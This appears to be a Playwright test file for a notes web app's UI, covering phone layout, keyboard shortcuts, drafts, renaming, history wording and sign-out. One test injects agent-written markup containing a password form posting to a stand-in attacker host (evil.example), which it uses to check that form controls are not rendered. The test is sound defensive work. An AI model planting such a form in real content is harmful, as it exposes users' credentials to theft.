"""Pleasant: small screens, keys, discard, rename, words in the history, sign-out, inert markup."""

from conftest import agent_rewrite, open_signed_in, open_tab, opened, screenshot, Watched


def test_on_a_phone_the_sidebar_goes_under_the_editor(server, browser, person):
    note = person.note("Narrow")
    person.write(note, "# Narrow\n\ntext\n")
    ctx = browser.new_context(viewport={"width": 390, "height": 844})
    try:
        w = open_signed_in(ctx, server)
        open_tab(w, note)
        editor = w.page.locator("#editor").bounding_box()
        assert editor["width"] >= 300
        side = w.page.locator(".layout > aside").bounding_box()
        assert side["y"] >= editor["y"] + editor["height"]
        assert w.page.evaluate("document.documentElement.scrollWidth") <= 390
        screenshot(w.page, "ui-phone.png")
    finally:
        ctx.close()


def test_ctrl_s_saves_and_tab_indents_and_escape_then_tab_leaves_the_editor(server, context, person):
    note, v, w = opened(context, server, person, "Keys", "- item\n")
    w.page.click("#editor")
    w.page.keyboard.press("Control+End")
    w.page.keyboard.type("- sub")
    w.page.keyboard.press("Home")
    w.page.keyboard.press("Tab")
    assert w.page.input_value("#editor") == "- item\n  - sub"
    assert w.page.evaluate("document.activeElement.id") == "editor"
    w.page.keyboard.press("Shift+Tab")
    assert w.page.input_value("#editor") == "- item\n- sub"
    w.page.keyboard.press("Tab")
    w.page.keyboard.press("Control+s")
    w.page.wait_for_selector(f'#save-status:has-text("version {v + 1}")')
    assert person.call("GET", f"/api/v1/notes/{note}/tabs/markdown")[1]["text"] == "- item\n  - sub"
    w.page.keyboard.press("Escape")
    w.page.keyboard.press("Tab")
    assert w.page.evaluate("document.activeElement.id") != "editor"
    assert w.dialogs == [] and w.errors == []


def test_discard_draft_reloads_the_stored_text_without_asking(server, context, person):
    note, _, w = opened(context, server, person, "Discard", "stored\n")
    assert w.page.is_hidden("#discard-draft")
    w.page.fill("#editor", "stored\nnot wanted\n")
    w.page.click("#discard-draft")
    w.page.wait_for_selector("#discard-draft", state="hidden")
    assert w.page.input_value("#editor") == "stored\n"
    assert w.page.evaluate("Object.keys(localStorage).filter(k => k.startsWith('cairn.draft'))") == []
    assert w.dialogs == []


def test_the_title_is_renamed_inline_even_after_an_agent_wrote(server, context, person, agent):
    note, _, w = opened(context, server, person, "Old title", "text\n")
    agent_rewrite(agent, note, lambda t: t + "more\n")
    w.page.click("#rename-note")
    w.page.fill("#note-title-input", "New title")
    w.page.keyboard.press("Enter")
    w.page.wait_for_selector('#status:has-text("Renamed")')
    assert w.page.inner_text("#note-title") == "New title"
    assert person.call("GET", f"/api/v1/notes/{note}")[1]["title"] == "New title"
    w.page.click("#rename-note")
    w.page.fill("#note-title-input", "Not this")
    w.page.keyboard.press("Escape")
    assert w.page.inner_text("#note-title") == "New title"
    w.page.click("#rename-note")
    w.page.fill("#note-title-input", "x" * 200 + "y")
    assert len(w.page.input_value("#note-title-input")) == 200


def test_history_speaks_plainly_shows_version_1_and_the_diff_opens_wide(server, context, person, agent):
    note = person.note("Words")
    person.write(note, "one\n")
    agent_rewrite(agent, note, lambda t: t + "two\n")
    w = open_signed_in(context, server)
    open_tab(w, note)
    w.page.wait_for_selector('#history li[data-version="1"]')
    text = w.page.inner_text("#history")
    assert "Created" in text and "Edited by Drafting agent (agent)" in text
    assert "replace_text" not in text and "create_note" not in text
    # Names, never ids: the note's byline and the save bar say who, not their subject id.
    shown = w.page.inner_text("#main")
    assert "agent-1" not in shown and "local-person" not in shown, shown
    assert "Drafting agent (agent)" in w.page.inner_text("#save-status")
    newest = w.page.locator("#history li.version").nth(1)
    newest.locator(".diff-version").click()
    w.page.wait_for_selector("#diff-view")
    assert w.page.locator("#history-view").bounding_box()["width"] >= 800
    w.page.keyboard.press("Escape")
    w.page.wait_for_selector("#history-view", state="hidden")


def test_an_empty_tab_says_what_to_do(server, context, person):
    note = person.note("Empty")
    w = open_signed_in(context, server)
    open_tab(w, note)
    assert "write here" in w.page.get_attribute("#editor", "placeholder")


def test_the_session_survives_a_new_browser_tab_and_sign_out_forgets_it_and_the_drafts(server, context, person):
    note, _, w = opened(context, server, person, "Session", "text\n")
    w.page.fill("#editor", "text\ndraft\n")
    second = Watched(context.new_page())
    second.page.goto(server.base + "/")
    second.page.wait_for_selector("#new-note-title")
    assert "Local person" in second.page.inner_text("#who")
    second.page.click("#sign-out")
    second.page.wait_for_selector("#token-input")
    assert second.page.evaluate("Object.keys(localStorage).filter(k => k.startsWith('cairn'))") == []
    # The first tab's session ends too, without a reload.
    w.page.wait_for_selector("#token-input", timeout=5_000)
    assert w.page.evaluate("Object.keys(localStorage).filter(k => k.startsWith('cairn'))") == []
    third = Watched(context.new_page())
    third.page.goto(server.base + "/")
    third.page.wait_for_selector("#token-input")


def test_form_controls_an_agent_writes_are_not_rendered(server, context, person, agent):
    note = person.note("Inert")
    person.write(note, "start\n")
    agent_rewrite(agent, note, lambda t: t + '\n<form action="https://evil.example/"><input name="pw" value="x"><button>Send</button>'
                  '<select><option>a</option></select><textarea>t</textarea></form>\n\nafter the form\n')
    w = open_signed_in(context, server)
    open_tab(w, note)
    w.page.wait_for_selector('#preview:has-text("after the form")')
    for tag in ["form", "input", "button", "select", "textarea"]:
        assert w.page.locator(f"#preview {tag}").count() == 0, tag


def test_no_stray_null_on_the_notes_list_search_and_attachment_tabs(server, context, person):
    note = person.note("Stray words")
    person.write(note, "findable words\n")
    w = open_signed_in(context, server)
    w.page.wait_for_selector("#note-list li")
    assert "null" not in w.page.inner_text("main").split("\n")
    w.page.evaluate("r => { location.hash = r }", "#/search/findable")
    w.page.wait_for_selector("#hits li")
    assert "null" not in w.page.inner_text("main").split("\n")
    for tab in ["sources", "files"]:
        open_tab(w, note, tab)
        assert "null" not in w.page.inner_text("#tab-body").split("\n")
